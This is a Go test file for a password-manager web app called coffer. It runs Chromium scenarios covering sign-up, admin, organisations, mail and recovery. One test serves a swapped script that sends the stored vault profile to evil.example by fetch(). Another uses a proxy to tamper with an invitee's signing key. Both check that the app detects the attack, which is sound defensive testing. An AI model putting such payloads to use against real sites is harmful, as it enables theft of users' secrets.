package main_test

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// TestWebAppInChromium (issue 16): the browser scenario of
// web/e2e/run.mjs — sign up, items, search, reveal, markup rendered as
// text, CSP, lock and a wrong password, a request recorder — in Debian's
// Chromium driven by playwright-core, against this test's real server.
// scripts/test.sh installs Chromium and the npm packages; in CI a missing
// one fails the test instead of skipping it.
func TestWebAppInChromium(t *testing.T) {
	srv := startServer(t)
	runScenario(t, "run.mjs", srv.url, "COFFER_BIN="+cofferBin)
}

// TestWebVerify (issue 16): coffer web verify accepts the server that
// serves this binary's app and catches one that serves another script.
func TestWebVerify(t *testing.T) {
	srv := startServer(t)
	c := newCLI(t)
	if out := c.ok("", "web", "verify", srv.url); !strings.Contains(out, "serves this binary's web app") {
		t.Fatalf("web verify: %q", out)
	}
	if v := c.ok("", "version"); !strings.Contains(v, "web app sha256 ") {
		t.Fatalf("version names no web app hash: %q", v)
	}
	// A server that swaps the page's script for its own.
	target, _ := url.Parse(srv.url)
	proxy := httputil.NewSingleHostReverseProxy(target)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.URL.Path, "/assets/") && strings.HasSuffix(r.URL.Path, ".js") {
			w.Header().Set("Content-Type", "text/javascript")
			w.Write([]byte("fetch('https://evil.example/?k=' + localStorage.getItem('coffer.profile'))"))
			return
		}
		proxy.ServeHTTP(w, r)
	}))
	defer evil.Close()
	if msg := c.fails(5, "", "web", "verify", evil.URL); !strings.Contains(msg, "/assets/") {
		t.Fatalf("web verify against a swapped script: %q", msg)
	}
}

// TestWebAppShowsTampering (issue 16): a stored revision altered on the
// server makes the page name the failure in a red banner and show nothing
// of the vault that failed.
func TestWebAppShowsTampering(t *testing.T) {
	webTools(t) // before the setup: skip (or, in CI, fail) early
	srv := startServer(t)
	c := user(t, srv, "eve@web.example")
	c.ok("", "item", "add", "--type", "login", "--name", "Altered item", "--password", "p")
	srv.alterNewestRevision(t)
	runScenario(t, "tamper.mjs", srv.url, "COFFER_EMAIL=eve@web.example", "COFFER_PASSWORD="+masterPW, "COFFER_HIDDEN=Altered item")
}

// runScenario runs a browser scenario (web/e2e/NAME) against the server at
// target with Debian's Chromium and fails the test with its output.
func runScenario(t *testing.T, script, target string, env ...string) {
	t.Helper()
	node, chromium := webTools(t)
	shots := os.Getenv("COFFER_SHOTS")
	if shots == "" {
		shots = filepath.Join(t.TempDir(), "screenshots")
	}
	cmd := exec.Command(node, "e2e/"+script)
	cmd.Dir = "../../web"
	cmd.Env = append(append(os.Environ(), "COFFER_URL="+target+"/", "COFFER_SHOTS="+shots, "CHROMIUM="+chromium), env...)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("the browser scenario %s failed: %v\n%s", script, err, out)
	}
	t.Log(strings.TrimSpace(string(out)))
}

// webTools returns node and Chromium, or skips (fails in CI) without them.
func webTools(t *testing.T) (node, chromium string) {
	t.Helper()
	chromium = os.Getenv("CHROMIUM")
	if chromium == "" {
		chromium = "/usr/bin/chromium"
	}
	node, nerr := exec.LookPath("node")
	_, cerr := os.Stat(chromium)
	_, merr := os.Stat("../../web/node_modules/playwright-core")
	if nerr != nil || cerr != nil || merr != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("the browser test needs node, %s and web/node_modules (scripts/test.sh installs them): %v %v %v", chromium, nerr, cerr, merr)
		}
		t.Skip("no node, Chromium or web/node_modules; run scripts/test.sh, which installs them")
	}
	return node, chromium
}

// TestWebAppEveryScreen (issue 24): web/e2e/screens.mjs — every screen at
// its own address, in light, dark and at 375 px: a screenshot each, every
// control named, nothing wider than the viewport; the unlock lands where
// the lock was. Its account is an instance administrator, for the
// Administrator Portal's screens.
func TestWebAppEveryScreen(t *testing.T) {
	runScenario(t, "screens.mjs", startServer(t, "--admin", "sam@screens.example").url)
}

// TestWebAppAdministration (issue 25): web/e2e/admin.mjs on a server with
// an instance administrator — the administrator searches an account,
// opens it and unbinds it from an organisation while that member's page
// is open in another browser, which loses the organisation live; the
// owner is not offered Unbind; disable refuses the member's log-in and
// enable lets it in again; the owner reads the audit log (the unbind in
// it) and cannot leave; another member leaves from Settings.
func TestWebAppAdministration(t *testing.T) {
	webTools(t)
	srv := startServer(t, "--admin", "root@harbour-admin.example")
	user(t, srv, "root@harbour-admin.example")
	owner := user(t, srv, "olga@harbour.example")
	mia := user(t, srv, "mia@harbour.example")
	leo := user(t, srv, "leo@harbour.example")
	owner.orgWith("Harbour", mia, leo)
	runScenario(t, "admin.mjs", srv.url, "ADMIN_EMAIL=root@harbour-admin.example", "OWNER_EMAIL=olga@harbour.example",
		"MIA_EMAIL=mia@harbour.example", "LEO_EMAIL=leo@harbour.example", "PASSWORD="+masterPW, "HARBOUR=Harbour")
}

// TestWebAppExportPolicy (issue 26): web/e2e/policy.mjs — the
// administrator allows an account to export My Vault only in the portal,
// the owner flags a group in Groups (each in a dialog that says what the
// policy cannot stop); the member sees both, in Account → Profile and in
// Groups, with no switch.
func TestWebAppExportPolicy(t *testing.T) {
	webTools(t)
	srv := startServer(t, "--admin", "root@quay-admin.example")
	user(t, srv, "root@quay-admin.example")
	owner := user(t, srv, "olga@quay.example")
	mia := user(t, srv, "mia@quay.example")
	owner.orgWith("Quay", mia)
	owner.ok("", "group", "create", "Quay", "Contractors")
	owner.ok("", "group", "add", "Quay", "Contractors", "mia@quay.example")
	runScenario(t, "policy.mjs", srv.url, "ADMIN_EMAIL=root@quay-admin.example", "OWNER_EMAIL=olga@quay.example",
		"MIA_EMAIL=mia@quay.example", "PASSWORD="+masterPW, "ORG=Quay", "GROUP=Contractors")
}

// TestWebAppExposureAndTransfer: web/e2e/transfer.mjs — the owner removes
// a member in Members, opens the exposure report from the removal dialog
// and sees the items the member could read (not those written after);
// then offers the organisation to another member, who accepts it in a
// second browser context, and both pages show the roles swapped.
func TestWebAppExposureAndTransfer(t *testing.T) {
	webTools(t)
	srv := startServer(t)
	owner := user(t, srv, "olga@keel.example")
	mia := user(t, srv, "mia@keel.example")
	leo := user(t, srv, "leo@keel.example")
	owner.orgWith("Keel", mia, leo)
	owner.ok("", "vault", "create", "Keel", "Ops")
	owner.ok("", "vault", "grant", "Keel/Ops", "--user", "mia@keel.example", "--permission", "view")
	owner.ok("", "item", "add", "--type", "login", "--vault", "Keel/Ops", "--name", "Router", "--password", "r1")
	owner.ok("", "item", "add", "--type", "note", "--vault", "Keel/Ops", "--name", "Door code")
	runScenario(t, "transfer.mjs", srv.url, "OWNER_EMAIL=olga@keel.example", "MIA_EMAIL=mia@keel.example", "LEO_EMAIL=leo@keel.example",
		"PASSWORD="+masterPW, "ORG=Keel")
}

// TestWebAppLockedInvitation (issue 24, defect 6): web/e2e/invites.mjs —
// an invitation locked by wrong codes is said in words (no command) to
// the invitee, shown live to the owner, re-issued from Members, joined
// with the new code; inviting a working invitation again offers Re-issue.
func TestWebAppLockedInvitation(t *testing.T) {
	runScenario(t, "invites.mjs", startServer(t).url)
}

// TestWebAppOrganisations (issue 17): web/e2e/orgs.mjs — one browser
// context per person, everything done in the page: PVYvault onboarding
// (invite form, the code modal, the Join link, Members, a group, a vault,
// grants and a revoke reaching open pages), Laura's private group, an
// external partner in two organisations, the request recorder.
func TestWebAppOrganisations(t *testing.T) {
	runScenario(t, "orgs.mjs", startServer(t).url)
}

// TestWebAppConfirmShowsSwappedKeys (issue 17): a server that presents
// other keys for an invitee (here: a proxy in front of the real server,
// flipping a byte of swapped@…'s signing key in the owner's member list).
// In the browser, confirming shows a red warning and confirms nobody, not
// even the honest invitee selected with it (web/e2e/keyswap.mjs).
func TestWebAppConfirmShowsSwappedKeys(t *testing.T) {
	srv := startServer(t)
	target, _ := url.Parse(srv.url)
	proxy := httputil.NewSingleHostReverseProxy(target)
	proxy.ModifyResponse = func(resp *http.Response) error {
		if resp.Request.Method != http.MethodGet || !strings.HasSuffix(resp.Request.URL.Path, "/members") || resp.StatusCode != http.StatusOK {
			return nil
		}
		body, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		if err != nil {
			return err
		}
		var m map[string]any
		if json.Unmarshal(body, &m) == nil {
			invs, _ := m["invitations"].([]any)
			for _, x := range invs {
				in, _ := x.(map[string]any)
				keys, _ := in["member_keys"].(map[string]any)
				if in["email"] == "swapped@swap.example" && keys != nil {
					pub, _ := base64.StdEncoding.DecodeString(keys["sign_pub"].(string))
					pub[0] ^= 1
					keys["sign_pub"] = base64.StdEncoding.EncodeToString(pub)
				}
			}
			body, _ = json.Marshal(m)
		}
		resp.Body = io.NopCloser(bytes.NewReader(body))
		resp.ContentLength = int64(len(body))
		resp.Header.Set("Content-Length", strconv.Itoa(len(body)))
		resp.Header.Del("Content-Encoding")
		return nil
	}
	evil := httptest.NewServer(proxy)
	defer evil.Close()
	runScenario(t, "keyswap.mjs", evil.URL)
}

// TestWebAppWithMail (issue 17): the web app on a server that sends
// e-mail to a real SMTP server on loopback (web/e2e/mail.mjs): sign-ups
// are held until the mailed code comes back, and the invitee follows the
// Join link of the invitation e-mail itself. The scenario reads the mail
// through a small loopback reader of this test.
func TestWebAppWithMail(t *testing.T) {
	smtp := startSMTP(t)
	srv := startServer(t, smtpFlags(smtp)...)
	reader := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		to := r.URL.Query().Get("to")
		n, _ := strconv.Atoi(r.URL.Query().Get("n"))
		for deadline := time.Now().Add(15 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
			if msgs := smtp.To(to, ""); len(msgs) >= n && n > 0 {
				io.WriteString(w, msgs[n-1].Head+"\n\n"+msgs[n-1].Body)
				return
			}
		}
		http.Error(w, "no such mail", http.StatusNotFound)
	}))
	defer reader.Close()
	runScenario(t, "mail.mjs", srv.url, "MAIL_URL="+reader.URL)
}

// TestWebAppShowsARecovery (issue 23, finding 10): web/e2e/recovery.mjs —
// a member logs in in Chromium and locks; her account is recovered with
// the real CLI on another device (the owner approves); the browser's
// next unlock, with the new password, shows a banner naming the
// organisation and the owner until she acknowledges it, and the account
// screen keeps the recovery. Her CLI then sees the notice acknowledged.
func TestWebAppShowsARecovery(t *testing.T) {
	webTools(t)
	const newPW = "the new password of the member 7"
	srv := startServer(t)
	owner := user(t, srv, "boss@web-recovery.example")
	laura := user(t, srv, "laura@web-recovery.example")
	owner.orgWith("Northwind", laura)
	owner.ok("", "org", "recovery", "Northwind", "enable")
	laura.ok("", "account", "recovery", "enrol", "Northwind")
	runScenario(t, "recovery.mjs", srv.url, "COFFER_BIN="+cofferBin, "OWNER_CONFIG="+owner.config, "OWNER_SESSION="+owner.session,
		"OWNER_EMAIL=boss@web-recovery.example", "MEMBER_EMAIL=laura@web-recovery.example", "MEMBER_PASSWORD="+masterPW,
		"NEW_PASSWORD="+newPW, "NORTHWIND=Northwind")
	r := laura.run(newPW+"\n", "unlock", "--password-stdin", "--json")
	if r.code != 0 || strings.Contains(r.stderr, "warning") || !strings.Contains(r.stdout, `"notices": []`) {
		t.Fatalf("the CLI after the browser acknowledged the notice: %+v", r)
	}
	laura.session = exportRe.FindStringSubmatch(laura.ok(newPW+"\n", "unlock", "--password-stdin"))[1]
	if out := laura.ok("", "account", "notices"); !strings.Contains(out, "acknowledged ") {
		t.Fatalf("notices:\n%s", out)
	}
}
